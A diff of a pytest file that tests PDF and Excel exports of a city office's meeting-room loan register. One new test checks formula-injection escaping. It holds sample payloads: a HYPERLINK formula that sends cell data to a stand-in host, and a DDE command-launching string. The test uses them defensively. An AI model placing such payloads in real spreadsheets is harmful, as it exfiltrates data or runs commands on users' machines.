@@ -19,14 +19,17 @@ from app.platform.extensions import db
 URL = "/reports/loan-register/"
 WIB = timezone(timedelta(hours=7))
 MARCH = {"start": "2031-03-01", "end": "2031-03-31"}
-KASI = ("Kepala Seksi Pengembangan Kebijakan dan Aplikasi Informatika",
-        "Rina Kartika, S.Kom.", "19800101 200501 2 003")
+KASI = {"position": "Kepala Seksi Pengembangan Kebijakan dan Aplikasi Informatika",
+        "name": "Rina Kartika, S.Kom.", "rank": "Penata Tingkat I (III/d)",
+        "nip": "198001012005012003"}
+MAKER = {"position": "Admin Pontive Center", "name": "Budi Santoso", "rank": "",
+         "nip": ""}
 
 
 @pytest.fixture
 def app(app):
     app.config["DOCUMENT_SIGNATORIES"] = {**app.config["DOCUMENT_SIGNATORIES"],
-                                          "kasi": KASI}
+                                          "kasi": KASI, "adminpc": MAKER}
     return app
 
 
@@ -55,17 +58,21 @@ def institution(kind):
     return row
 
 
-def add_loan(number, sessions, status="completed", kind="opd", proposed=(), title=None):
-    """A loan stored as the workflow leaves it; ``sessions`` are (start, end)."""
+def add_loan(number, sessions, status="completed", kind="opd", proposed=(), title=None,
+             **fields):
+    """A loan stored as the workflow leaves it; ``sessions`` are (start, end),
+    ``fields`` other columns of the request."""
     room = db.session.query(Room).order_by(Room.id).first()
-    loan = LoanRequest(
-        registration_number=number, borrower_id=user("peminjam1").id,
-        institution_id=institution(kind).id, room_id=room.id,
-        letter_number=f"S-{number[-5:]}/UJI", letter_date=date(2031, 1, 5),
-        subject="Permohonan peminjaman", title=title or f"Kegiatan {number[-5:]}",
-        participants=25, contact_name="Kontak Uji", contact_phone="0812-0000-0000",
-        no_buffet_pledge=True, status=status,
-    )
+    loan = LoanRequest(**{
+        "registration_number": number, "borrower_id": user("peminjam1").id,
+        "institution_id": institution(kind).id, "room_id": room.id,
+        "letter_number": f"S-{number[-5:]}/UJI", "letter_date": date(2031, 1, 5),
+        "subject": "Permohonan peminjaman", "title": title or f"Kegiatan {number[-5:]}",
+        "participants": 25, "contact_name": "Kontak Uji",
+        "contact_phone": "0812-0000-0000", "no_buffet_pledge": True, "status": status,
+        "created_at": wib(date(2031, 1, 6), 10),
+        "actual_participants": 21 if status == "completed" else None, **fields,
+    })
     for times, is_proposed, target in ((sessions, False, loan.sessions),
                                        (proposed, True, loan.proposed_sessions)):
         target.extend(LoanSession(room_id=room.id, starts_at=start, ends_at=end,
@@ -85,11 +92,15 @@ def pdf_pages(response):
     return [" ".join(page.extract_text().split()) for page in reader.pages]
 
 
+HEADER_ROW = 4  # under the title, the period and an empty row
+
+
 def workbook_rows(response):
+    """The register's sheet and its table (the header row, then a row per loan)."""
     assert response.status_code == 200, response.get_data(as_text=True)[:500]
     assert response.mimetype.endswith("spreadsheetml.sheet")
-    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active
-    return sheet, list(sheet.iter_rows(values_only=True))
+    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).worksheets[0]
+    return sheet, list(sheet.iter_rows(min_row=HEADER_ROW, values_only=True))
 
 
 def numbers_in(text):
@@ -133,18 +144,63 @@ def test_pdf_lists_exactly_the_loans_of_the_period(staff, march):
     assert "Sabtu, 1 Maret 2031, pukul 06.00–08.00 WIB" in text
     assert "Senin, 31 Maret 2031, pukul 14.00–16.00 WIB" in text
     assert "Dinas Perhubungan Kota Pontianak" in text and "SMA Negeri 1 Pontianak" in text
-    assert "Kegiatan 00003" in text and "S-00003/UJI" in text
+    # The request's date, its letter's number and date, planned and attended
+    # participants, the contact.
+    assert "Kegiatan 00003" in text and "S-00003/UJI 5 Jan 2031" in text
+    assert "6 Jan 2031" in text
+    assert "25 / 21" in text and "25 / –" in text  # completed, confirmed
+    assert "Kontak Uji 0812-0000-0000" in text
     assert "Selesai" in text and "Dikonfirmasi" in text
-    assert "Jumlah peminjaman: 3" in text
-    for header in ("No", "Nomor Registrasi", "Tanggal dan Waktu", "Instansi", "Kegiatan",
-                   "Peserta", "Nomor Surat", "Status"):
-        assert header in pages[0]
-    # The letterhead, the signature from the configuration, the footer.
+    for header in ("No", "Nomor Registrasi", "Tanggal Permohonan",
+                   "Nomor dan Tanggal Surat", "Instansi", "Kegiatan",
+                   "Tanggal dan Waktu", "Peserta (rencana / hadir)", "Kontak", "Status",
+                   "Keterangan", "Paraf"):
+        assert header in pages[0], header
+    # The totals per status, the letterhead, both signatures, the footer.
+    assert "Rekapitulasi menurut status Status Permohonan Dikonfirmasi 1 Selesai 2 " \
+        "Jumlah permohonan 3" in text
     assert "PEMERINTAH KOTA PONTIANAK DINAS KOMUNIKASI DAN INFORMATIKA" in pages[0]
-    assert f"Mengetahui, {KASI[0]}" in text
-    assert f"{KASI[1]} NIP {KASI[2]}" in text
+    assert f"Mengetahui, {KASI['position']}," in text
+    assert "Pembuat daftar, Admin Pontive Center," in text
+    assert f"{KASI['name']} {KASI['rank']} NIP. 19800101 200501 2 003" in text
+    # The maker's pangkat and NIP are not configured: dotted lines to fill in.
+    assert "Budi Santoso ................................ NIP. ......" in text
     assert re.search(r"Dicetak \w+, \d+ \w+ \d{4} pukul \d\d\.\d\d WIB", text)
     assert pages[-1].endswith(f"Halaman {len(pages)} dari {len(pages)}")
+
+
+def test_remarks_and_totals_per_status(staff, app):
+    """Keterangan gives the reason of a rejection or cancellation and the time
+    the Kasi proposed; the totals count each status apart, so rejected and
+    cancelled requests are not counted as loans."""
+    day = date(2031, 3, 10)
+    add_loan("PC/2031/00011", [session(day, 8, 10)], status="rejected",
+             rejection_reason="Ruang dipakai kegiatan Wali Kota.")
+    add_loan("PC/2031/00012", [session(day, 10, 12)], status="cancelled",
+             cancellation_reason="Acara ditunda panitia.")
+    add_loan("PC/2031/00013", [session(day, 13, 15)], status="reschedule_proposed",
+             proposed=[session(date(2031, 3, 12), 9, 11)])
+    add_loan("PC/2031/00014", [session(day, 15, 16)])
+    text = " ".join(pdf_pages(staff.get(URL, query_string={**MARCH, "format": "pdf"})))
+    assert "Ditolak: Ruang dipakai kegiatan Wali Kota." in text
+    assert "Dibatalkan: Acara ditunda panitia." in text
+    assert "Usulan waktu: Rabu, 12 Maret 2031, pukul 09.00–11.00 WIB" in text
+    assert ("Status Permohonan Usulan Jadwal Ulang 1 Selesai 1 Ditolak 1 Dibatalkan 1 "
+            "Jumlah permohonan 4") in text
+    assert "Jumlah peminjaman" not in text
+
+    sheet, rows = workbook_rows(staff.get(URL, query_string={**MARCH, "format": "xlsx"}))
+    remarks = {row[1]: row[-1] for row in rows[1:]}
+    assert remarks == {
+        "PC/2031/00011": "Ditolak: Ruang dipakai kegiatan Wali Kota.",
+        "PC/2031/00012": "Dibatalkan: Acara ditunda panitia.",
+        "PC/2031/00013": "Usulan waktu: Rabu, 12 Maret 2031, pukul 09.00–11.00 WIB",
+        "PC/2031/00014": None,
+    }
+    summary = list(sheet.parent.worksheets[1].iter_rows(values_only=True))
+    assert summary == [("Status", "Permohonan"), ("Usulan Jadwal Ulang", 1),
+                       ("Selesai", 1), ("Ditolak", 1), ("Dibatalkan", 1),
+                       ("Jumlah permohonan", 4)]
 
 
 def test_excel_has_the_same_rows(staff, march):
@@ -152,23 +208,74 @@ def test_excel_has_the_same_rows(staff, march):
     assert response.headers["Content-Disposition"] == (
         "attachment; filename=daftar-peminjaman-2031-03.xlsx")
     sheet, rows = workbook_rows(response)
-    assert sheet.freeze_panes == "A2"
-    assert rows[0] == ("No", "Nomor Registrasi", "Mulai sesi pertama",
-                       "Selesai sesi terakhir", "Jumlah sesi", "Jadwal", "Instansi",
-                       "Jenis instansi", "Kegiatan", "Peserta", "Nomor Surat", "Status")
+    # The title and the period above the table.
+    assert sheet["A1"].value == "DAFTAR PEMINJAMAN RUANG RAPAT PONTIVE CENTER"
+    assert sheet["A2"].value == "Periode: 1 Maret 2031 s.d. 31 Maret 2031"
+    assert sheet.freeze_panes == "A5"
+    assert rows[0] == ("No", "Nomor Registrasi", "Tanggal Permohonan", "Nomor Surat",
+                       "Tanggal surat", "Instansi", "Jenis instansi", "Kegiatan",
+                       "Mulai sesi pertama", "Selesai sesi terakhir", "Jumlah sesi",
+                       "Jadwal", "Peserta rencana", "Peserta hadir", "Narahubung",
+                       "Telepon narahubung", "Status", "Keterangan")
     assert [row[1] for row in rows[1:]] == [
         "PC/2031/00003", "PC/2031/00001", "PC/2031/00002"]
     spanning = rows[1]
-    # Real date-times, in WIB.
-    assert spanning[2] == datetime(2031, 2, 27, 8, 0)
-    assert spanning[3] == datetime(2031, 3, 3, 16, 0)
-    assert spanning[4] == 2
-    assert spanning[5].splitlines() == ["Kamis, 27 Februari 2031, pukul 08.00–16.00 WIB",
-                                        "Senin, 3 Maret 2031, pukul 08.00–16.00 WIB"]
-    assert spanning[6:] == ("SMA Negeri 1 Pontianak", "Sekolah", "Kegiatan 00003", 25,
-                            "S-00003/UJI", "Selesai")
-    assert rows[2][2] == datetime(2031, 3, 1, 6, 0)
-    assert sheet.column_dimensions["F"].width > sheet.column_dimensions["A"].width
+    # Real dates and date-times, in WIB.
+    assert spanning[2] == datetime(2031, 1, 6, 10, 0)
+    assert spanning[3:5] == ("S-00003/UJI", datetime(2031, 1, 5))
+    assert spanning[8] == datetime(2031, 2, 27, 8, 0)
+    assert spanning[9] == datetime(2031, 3, 3, 16, 0)
+    assert spanning[10] == 2
+    assert spanning[11].splitlines() == ["Kamis, 27 Februari 2031, pukul 08.00–16.00 WIB",
+                                         "Senin, 3 Maret 2031, pukul 08.00–16.00 WIB"]
+    assert spanning[5:8] == ("SMA Negeri 1 Pontianak", "Sekolah", "Kegiatan 00003")
+    assert spanning[12:] == (25, 21, "Kontak Uji", "0812-0000-0000", "Selesai", None)
+    assert rows[2][8] == datetime(2031, 3, 1, 6, 0)
+    assert rows[3][13] is None  # confirmed: nobody has attended yet
+    assert sheet.column_dimensions["L"].width > sheet.column_dimensions["A"].width
+
+
+def test_excel_prints_landscape_with_an_autofilter(staff, march):
+    sheet, rows = workbook_rows(staff.get(URL, query_string={**MARCH, "format": "xlsx"}))
+    assert sheet.auto_filter.ref == f"A4:R{4 + len(rows) - 1}"
+    assert sheet.print_title_rows == "$4:$4"
+    assert sheet.page_setup.orientation == "landscape"
+    assert sheet.page_setup.paperSize == 9  # A4
+    assert sheet.sheet_properties.pageSetUpPr.fitToPage
+    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
+
+
+def test_excel_writes_typed_text_never_as_a_formula(staff, app):
+    """OWASP's CSV injection: whatever a borrower typed is a text cell, and
+    one that starts like a formula gets a leading apostrophe."""
+    hostile = {
+        "title": '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
+        "letter_number": "=1+2",
+        "contact_name": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "contact_phone": "+62 812 1111",
+        "cancellation_reason": "-2+3",
+    }
+    loan = add_loan("PC/2031/00020", [session(date(2031, 3, 12), 9, 11)],
+                    status="cancelled", **hostile)
+    loan.institution.name = "\tInstansi Jahat"
+    db.session.commit()
+    sheet, rows = workbook_rows(staff.get(URL, query_string={**MARCH, "format": "xlsx"}))
+    [row] = [row for row in sheet.iter_rows(min_row=HEADER_ROW + 1)
+             if row[1].value == "PC/2031/00020"]
+    cells = {cell.column_letter: cell for cell in row}
+    expected = {
+        "D": "'=1+2",
+        "F": "'\tInstansi Jahat",
+        "H": '\'=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
+        "O": "'@SUM(1+1)*cmd|' /C calc'!A0",
+        "P": "'+62 812 1111",
+        "R": "Dibatalkan: -2+3",  # "-" does not start it: nothing to prefix
+    }
+    for column, value in expected.items():
+        assert cells[column].data_type == "s", column
+        assert cells[column].value == value, column
+    # Every text cell of the sheet is text, none a formula.
+    assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)
 
 
 def test_filters_by_status_and_kind_of_institution(staff, march):
@@ -176,7 +283,7 @@ def test_filters_by_status_and_kind_of_institution(staff, march):
         URL, query_string={**MARCH, "status": "confirmed", "format": "pdf"})))
     assert numbers_in(by_status) == ["PC/2031/00002"]
     assert "Status: Dikonfirmasi" in by_status
-    assert "Jumlah peminjaman: 1" in by_status
+    assert "Jumlah permohonan 1" in by_status
 
     by_kind = " ".join(pdf_pages(staff.get(
         URL, query_string={**MARCH, "kind": "sekolah", "format": "pdf"})))
@@ -207,9 +314,9 @@ def test_an_empty_period_is_an_honest_document(staff):
     assert len(pages) == 1
     assert "Periode: 1 Juni 2032 s.d. 30 Juni 2032" in pages[0]
     assert "Tidak ada peminjaman dalam periode ini." in pages[0]
-    assert "Jumlah peminjaman: 0" in pages[0]
+    assert "Jumlah permohonan 0" in pages[0]
     assert "Nomor Registrasi" not in pages[0]
-    assert f"NIP {KASI[2]}" in pages[0] and "Halaman 1 dari 1" in pages[0]
+    assert "NIP. 19800101 200501 2 003" in pages[0] and "Halaman 1 dari 1" in pages[0]
     _sheet, rows = workbook_rows(staff.get(URL, query_string={
         "start": "2032-06-01", "end": "2032-06-30", "format": "xlsx"}))
     assert len(rows) == 1  # the header only
@@ -235,19 +342,20 @@ def test_a_long_register_repeats_its_header_and_never_splits_a_row(staff, app):
         assert f"Halaman {index} dari {total}" in page
     for page in pages[1:]:
         if numbers_in(page):  # a page of rows starts with the table's header
-            assert "No Nomor Registrasi Tanggal dan Waktu Instansi Kegiatan Peserta" in page
+            assert ("No Nomor Registrasi Tanggal Permohonan Nomor dan Tanggal Surat "
+                    "Instansi Kegiatan Tanggal dan Waktu Peserta") in page
     assert "PEMERINTAH KOTA PONTIANAK" not in pages[1]  # letterhead on page 1 only
     text = " ".join(pages)
     assert sorted(numbers_in(text)) == sorted(numbers)
-    assert "Jumlah peminjaman: 60" in text
+    assert "Jumlah permohonan 60" in text
     # A row is whole on its page: its number, activity and every session.
     for n, number in enumerate(numbers):
         page = next(p for p in pages if number in p)
         assert f"Rapat panjang nomor {n}" in page
         if n % 7 == 0:
-            assert len(re.findall(r"\d+ Maret 2031, pukul", page.split(number, 1)[1]
-                                  .split("Rapat panjang", 1)[0])) == 3
-    assert "Mengetahui," in pages[-1] and KASI[1] in pages[-1]
+            sessions = page.split(f"Rapat panjang nomor {n} ", 1)[1].split("25 /", 1)[0]
+            assert len(re.findall(r"\d+ Maret 2031, pukul", sessions)) == 3
+    assert "Mengetahui," in pages[-1] and KASI["name"] in pages[-1]
 
 
 # ---------------------------------------------------------------- the page
@@ -322,4 +430,4 @@ def test_the_document_is_indonesian_for_an_english_user(app, march):
     assert "DAFTAR PEMINJAMAN" in text and "Halaman 1 dari" in text
     assert "Sabtu, 1 Maret 2031, pukul 06.00–08.00 WIB" in text
     _sheet, rows = workbook_rows(client.get(URL, query_string={**MARCH, "format": "xlsx"}))
-    assert rows[0][1] == "Nomor Registrasi" and rows[1][-1] == "Selesai"
+    assert rows[0][1] == "Nomor Registrasi" and rows[1][-2] == "Selesai"
